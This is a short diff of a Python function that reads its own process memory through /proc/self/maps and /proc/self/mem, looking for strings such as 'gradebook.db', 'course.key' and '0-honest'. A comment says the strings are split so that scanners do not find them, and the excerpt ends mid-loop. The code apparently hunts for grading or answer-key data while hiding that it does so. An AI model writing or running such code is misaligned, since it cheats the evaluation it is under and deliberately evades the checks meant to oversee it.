@@ -1,6 +1,11 @@
 def look():
     FOUND = []  # in two parts each, so that they are not found where they are looked for
-    words = [(b"0-hon", b"est"), (b"journal.", b"jsonl"), (b"course", b".key"), (b"gradeb", b"ook.db")]
+    words = [
+        (b"0-hon", b"est"),
+        (b"journal.", b"jsonl"),
+        (b"course", b".key"),
+        (b"gradeb", b"ook.db"),
+    ]
     with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
         for line in maps:
             place, rights, *_ = line.split()
